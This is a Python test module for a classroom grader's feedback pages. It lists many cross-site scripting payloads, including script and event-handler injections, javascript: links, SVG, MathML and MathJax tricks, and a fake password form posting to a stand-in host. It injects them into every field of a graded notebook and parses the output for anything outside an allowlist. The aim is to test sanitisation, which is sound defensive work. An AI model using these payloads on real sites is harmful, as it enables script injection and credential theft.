"""What hostile submissions try to put into the pages that people read, and what a page of feedback may hold."""

import base64
import copy
import re
from html.parser import HTMLParser

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from grader.classroom.feedback import Check, Exercise, Picture, Report

TAGS = {
    "html": {"lang"},
    "head": set(),
    "meta": {"charset", "http-equiv", "content", "name"},
    "title": set(),
    "style": set(),
    "body": set(),
    "main": set(),
    "section": set(),
    "h1": set(),
    "h2": {"id"},
    "h3": set(),
    "p": {"class"},
    "strong": {"class"},
    "span": {"class"},
    "bdi": set(),
    "table": set(),
    "tr": set(),
    "th": {"scope"},
    "td": set(),
    "a": {"href"},
    "ul": set(),
    "li": set(),
    "pre": {"class", "tabindex"},
    "blockquote": set(),
    "figure": set(),
    "img": {"alt", "src"},
    "details": set(),
    "summary": set(),
}

AWAY = "http://127.0.0.1:9"  # another origin
HERE = "/canary"  # a path of the same origin that nobody may ask for
OWN = "alert(1)"

ATTACKS = [  # one entry, one line: what a student may write anywhere
    "<script>document.title = 'owned'</script>",
    "</pre></style></title></textarea><script>alert(1)</script>",
    "<ScRiPt\t>alert(1)</sCrIpT\n>",
    f"<script src='{AWAY}/x.js'></script><script src={HERE}.js async></script>",
    f"<script type=module>import '{AWAY}/x.mjs'; {OWN}</script>",
    f"<script type='text/x-mathjax-config'>{OWN}</script><script type='math/tex'>\\href{{javascript:{OWN}}}{{x}}</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    f"<img src={HERE}.png onload={OWN}><img srcset='{HERE}.png 1x' src=x onerror={OWN}>",
    f"<img/src='x'/onerror='{OWN}'><IMG SRC=x ONERROR={OWN}>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    "<a href='javascript:alert(1)'>nota</a>",
    "[nota](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png)",
    "[a](JaVaScRiPt:alert(1)) [b]( javascript:alert(1)) [c](<java\tscript:alert(1)>) [d](java\\script:alert(1))",
    "[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1)) [c](&#x6A&#x61vascript:alert(1)) [d](\x01javascript:alert(1))",
    f"[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+) [c](data:text/html,<script>{OWN}</script>)",
    "[a](/formgrader/manage_students/%22;document.title='owned';%22) [b](../../../lab) [c](//127.0.0.1:9/)",
    "[nota][x] ![foto][y] [x] [z][]\n\n[x]: javascript:alert(1)\n[y]: http://127.0.0.1:9/y.png\n[z]:\n  javascript:alert(1)",
    "<javascript:alert(1)> <http://127.0.0.1:9/auto> http://127.0.0.1:9/bare www.127.0.0.1:9 <a@b.es>",
    f'![x]({AWAY}/x.png) ![x]({HERE}.png "t\' onerror={OWN}") ![" onerror={OWN} x="](x.png)',
    f"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![x](data:text/html,<script>{OWN}</script>)",
    "![x](attachment:x.svg) ![x](attachment:nada.png) <img src='attachment:x.svg' onerror=alert(1)>",
    "<form action='http://127.0.0.1:9/'><input name=password><button>Entrar</button></form>",
    f"<button formaction='javascript:{OWN}' autofocus onfocus={OWN}>x</button><input autofocus onfocus={OWN}>",
    f"<isindex action=javascript:{OWN} type=image><keygen autofocus onfocus={OWN}><select autofocus onfocus={OWN}>",
    "<svg onload=alert(1)><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    f"<svg><script href='{AWAY}/x.js'/><animate onbegin={OWN} attributeName=x dur=1s><use href='{AWAY}/x.svg#x'/></svg>",
    f"<svg><a xlink:href='javascript:{OWN}'><text y=20>x</text></a><set onend={OWN} dur=1s attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={OWN}&gt;'>",
    f"<math href='javascript:{OWN}'>x</math><math><maction actiontype=statusline xlink:href='javascript:{OWN}'>x</maction></math>",
    f"<svg></p><style><a id='</style><img src=1 onerror={OWN}>'></svg><noscript><p title='</noscript><img src=x onerror={OWN}>'>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe><iframe src={HERE}></iframe><frameset onload={OWN}>",
    f"<object data='data:text/html,<script>parent.{OWN}</script>'></object><embed src='{HERE}.svg'><applet code=x>",
    "<meta http-equiv=refresh content='0; url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>",
    "<link rel=stylesheet href='http://127.0.0.1:9/x.css'><style>@import 'http://127.0.0.1:9/x.css';</style>",
    f"<link rel=prefetch href={HERE}><link rel=dns-prefetch href=//127.0.0.1:9><link rel=modulepreload href={HERE}.js>",
    f"<div style='background:url({AWAY}/u.png);width:expression({OWN});-moz-binding:url({AWAY}/x)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>tapa la página</p><style>*{display:none}</style>",
    f"<details open ontoggle={OWN}><summary onclick={OWN}>x</summary></details><dialog open oncancel={OWN}>x</dialog>",
    f"<video src=x onerror={OWN}><source onerror={OWN}></video><audio src={HERE}.mp3 autoplay onerror={OWN}></audio>",
    f"<x onclick={OWN} tabindex=1 autofocus onfocus={OWN} id=MathJax>pulsa</x><b contenteditable onfocus={OWN}>x</b>",
    f"<body onload={OWN} onpageshow={OWN} background={HERE}.png><marquee onstart={OWN}>x</marquee>",
    f"<p onanimationstart={OWN} style='animation:x'>x</p><style>@keyframes x{{}}</style><p onpointerenter={OWN}>x</p>",
    f"<xss style='transition:all 0s' ontransitionend={OWN}></xss><p popover ontoggle={OWN} id=p>x</p><button popovertarget=p>x</button>",
    "<b class='full-credit'>pulsa</b><input class='score tabbable' id=design_note><a data-toggle=modal data-target='<img src=x onerror=alert(1)>'>x</a>",
    "<form id=formgrader><input name=grades></form><a id=MathJax></a><img name=currentScript src=x><p id=notebook>",
    "# MathJax\n\n# formgrader\n\n# <img src=x onerror=alert(1)>\n\n<h1>x <script>alert(1)</script>\n---",
    f"- a\n\n  <script>{OWN}</script>\n\n> <img src=x onerror={OWN}>\n\n1. <svg onload={OWN}>\n",
    f"a | b\n--|--\n<script>{OWN}</script> | <img src=x onerror={OWN}>\n[x](javascript:alert(1)) | `</td><script>{OWN}</script>`",
    f"```mermaid\n<img src=x onerror={OWN}>\n```\n\n~~~mermaid x\n</pre><script>{OWN}</script>\n~~~",
    f"```python\nprint('</script><script>{OWN}</script></code></pre>')\n```\n\n```\"><img src=x onerror={OWN}>\nx\n```",
    f"    <script>{OWN}</script>\n\n`<script>{OWN}</script>` ``` </code><img src=x onerror={OWN}> ```",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode[x;}onerror=alert(1)]{65}$$ $\\style{background:url(http://127.0.0.1:9/)}{x}$",
    "$\\class{full-credit}{x}$ $\\cssId{MathJax}{x}$ $\\require{HTML}$ $\\bbox[url(http://127.0.0.1:9/)]{x}$ $\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    "$\\href{http://127.0.0.1:9/}{x}$ $\\href{/canary}{y}$ $\\unicode{65}$ \\begin{align}\\href{/canary}{z}\\end{align}",
    f"$</script><script>{OWN}</script>$ \\begin{{a}}<img src=x onerror={OWN}>\\end{{a}} $$<svg onload={OWN}>$$",
    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\href{javascript:alert(1)}{x}}\\y$",
    "{{ ''.__class__ }} {% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} <%= 7*7 %> #{7*7} {{ super() }}",
    "<!-- <![CDATA[ ]]> --> &lt;script&gt; &#x3c;script> {{ 7*7 }} {% raw %} \x00\x1b[31m\x7f \u202e",
    f"<!--><script>{OWN}</script>--> <!--[if gte IE 4]><script>{OWN}</script><![endif]--> <?xml-stylesheet href='{HERE}'?>",
    f"<!DOCTYPE x [<!ENTITY e '<script>{OWN}</script>'>]>&e; <![CDATA[<script>{OWN}</script>]]>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u017fcript <\u017fcript>alert(1)</\u017fcript> <scr\u0131pt> \u2028\u2029<img\u00a0src=x onerror=alert(1)>",
    "\ud800 \ufeff<\u200bscript>alert(1)</script> \u202eevil\u2066 \u2067 a\u0300\u0301\u0302 <img\x0csrc=x\x0conerror=alert(1)> \x1b]8;;http://127.0.0.1:9\x07x",
    f"<textarea><img title='</textarea><script>{OWN}</script>'><xmp><listing><noembed><noframes></noframes><script>{OWN}</script>",
    f"<template><script>{OWN}</script></template><slot onslotchange={OWN}><portal src={HERE}><fencedframe src={HERE}>",
    f"<div><div><p><table><td><script>{OWN}</script><tr></div></div></section></main></body></html><script>{OWN}</script>",
    f"<plaintext><script>{OWN}</script>",
]

RICH = [  # what an output may be
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "text/vnd.mermaid",
    "application/javascript",
    "application/pdf",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
]

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="{label}" viewBox="0 0 700 90" '
    "onload=\"document.title='owned'\"><script>document.title='owned'</script>"
    '<image href="http://127.0.0.1:9/x.png"/><style>@import url(http://127.0.0.1:9/x.css)</style>'
    '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1:9/y.png"/>'
    '</foreignObject><rect width="700" height="90" fill="#4a9"/></svg>'
)


def everywhere(attack):
    """A report with one text in the place of every text that it has."""
    pictures = [
        Picture(SVG.format(label="&quot;&gt;&lt;script&gt;"), attack),
        Picture(f'<svg aria-label="{attack}">', ""),
        Picture(attack, attack),
    ]
    check = Check(attack, 1, 0, attack, [attack], pictures)
    return Report(
        section=attack,
        student=attack,
        exercises=[
            Exercise(attack, attack, [check, Check(attack, 2, None)], attack, extra=True),
            Exercise(attack, attack, [Check("", 4, 1)], attack, code=False),
        ],
        late=1,
        own=[attack],
    )


def notebook_of_old(graded, attacks):
    """A graded notebook as stock nbgrader leaves one: with what a student put into every place of it, attack by attack."""
    book = copy.deepcopy(graded)
    answer = next(cell for cell in book.cells if cell.cell_type == "markdown" and "nbgrader" in cell.metadata)
    for number, attack in enumerate(attacks):
        tag = " ".join(attack.replace(",", " ").split())
        task = {
            "task": True,
            "grade": False,
            "solution": False,
            "locked": False,
            "points": 1,
            "schema_version": 3,
        }
        book.cells += [
            new_markdown_cell(attack, metadata={"tags": [tag], "grader": attack}),
            new_markdown_cell(attack, metadata={"nbgrader": task | {"grade_id": f"task-{number}"}}),
            new_markdown_cell(
                attack, metadata={"nbgrader": answer.metadata.nbgrader | {"grade_id": f"note-{number}"}}
            ),
            new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}),
            new_code_cell(attack, outputs=[*_outputs(attack)], metadata={"tags": [tag]}),
        ]
        book.cells[-5].attachments = {
            "x.svg": {"image/svg+xml": base64.b64encode(attack.encode("utf-8", "replace")).decode()}
        }
    answer.source = "\n\n".join(attacks)
    book.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "".join(attacks)}}
    }
    book.metadata["title"] = "".join(attacks)
    return book


def _outputs(attack):
    away = {
        "filenames": dict.fromkeys(["image/png", "image/jpeg"], f"{AWAY}/x.png"),
        "text/html": {"isolated": True},
    }
    yield new_output("stream", name="stdout", text=attack)
    yield new_output("stream", name="stderr", text=attack)
    yield new_output("error", ename=attack, evalue=attack, traceback=attack.splitlines())
    view = {"model_id": attack, "version_major": 2, "version_minor": 0}
    yield new_output(
        "display_data", data={"application/vnd.jupyter.widget-view+json": view, "text/plain": attack}
    )
    for kind in RICH:
        yield new_output("display_data", data={kind: attack}, metadata=away)
        yield new_output(
            "display_data", data={kind: attack}, metadata={"image/png": {"width": attack}, "alt": attack}
        )
    yield new_output("display_data", data={"image/svg+xml": SVG.format(label=""), "text/html": attack})


class Strangers(HTMLParser):
    """Collects what a page holds beyond TAGS, and its texts."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.texts, self.open = [], [], []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _ in attrs}
        values = dict(attrs)
        if tag not in TAGS or not names <= TAGS[tag]:
            self.found.append((tag, sorted(names)))
        if tag == "img" and not values["src"].startswith("data:image/svg+xml;base64,"):
            self.found.append((tag, values["src"]))
        if tag == "a" and not values["href"].startswith("#"):
            self.found.append((tag, values["href"]))
        if tag not in ("meta", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")

    def handle_decl(self, decl):
        if decl != "DOCTYPE html":
            self.found.append(decl)


def strangers(page):
    """What a page holds that no page may hold: tags, attributes, addresses, ends without a beginning."""
    parser = Strangers()
    parser.feed(page)
    parser.close()
    return parser.found + parser.open


class _Active(HTMLParser):
    """Collects what a browser would run, ask for or follow."""

    def __init__(self, allowed):
        super().__init__(convert_charrefs=True)
        self.found, self._allowed = [], allowed

    def handle_starttag(self, tag, attrs):
        fine = self._allowed(tag, dict(attrs))
        if not fine and tag not in SHOWN:
            self.found.append(tag)
        for name, value in attrs:
            calm = name in CALM or (name in ("href", "src") and _leads_away(tag, value or ""))
            if not fine and not calm:
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        self.found.append(f"comment {data}")


SHOWN = {
    *(
        "html",
        "head",
        "body",
        "main",
        "title",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "div",
        "span",
        "pre",
        "code",
    ),
    *(
        "a",
        "b",
        "i",
        "u",
        "s",
        "em",
        "strong",
        "del",
        "sub",
        "sup",
        "kbd",
        "blockquote",
        "details",
        "summary",
        "br",
    ),
    *("hr", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "img"),
}
CALM = {"class", "id", "alt", "align", "start", "tabindex", "width", "height"}


def _leads_away(tag, value):
    """Tell whether an address is one that a page may have: a place in it, another machine, a picture within it."""
    if tag == "img":
        return value.startswith("data:image/")
    named = re.match(r"https?://[\w-]+\.[\w.-]*[A-Za-z](?![\w.:@-])", value)
    return tag == "a" and bool(named or value.startswith("#"))


def active(page, allowed=lambda tag, attrs: False):
    """What a page holds that acts by itself or when it is touched; `allowed` tells the page's own elements."""
    parser = _Active(allowed)
    parser.feed(page)
    parser.close()
    return parser.found
